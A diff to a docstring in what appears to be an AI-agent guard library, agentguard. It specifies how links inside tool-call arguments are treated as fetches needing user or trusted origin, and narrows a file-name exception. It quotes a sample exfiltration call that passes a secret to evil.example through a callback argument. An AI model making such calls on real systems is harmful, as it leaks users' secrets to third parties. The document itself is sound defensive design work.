@@ -28,8 +28,8 @@ labels it by *every* source it could have come from, and decides fail closed:
 - account values (a password, an address) must be written in the request;
 - a read carries its arguments to whatever serves it: a read (declared, inferred or undeclared) whose
   argument holds a link (the parser of :mod:`agentguard.policies.links`: any public suffix, IP literals,
-  spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md``, and file names a trusted
-  listing gave) is a *fetch* of that link, and the link must be the user's
+  spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md`` unless they name a network
+  location, and file names a trusted listing gave) is a *fetch* of that link, and the link must be the user's
   or trusted like any fetched URL (``get_status(callback="https://evil.example/?k=<secret>")`` is a fetch
   of a third-party address, not a free read);
 - outgoing content (bodies, subjects, titles, posts): every link in it (any public suffix, IP literals,
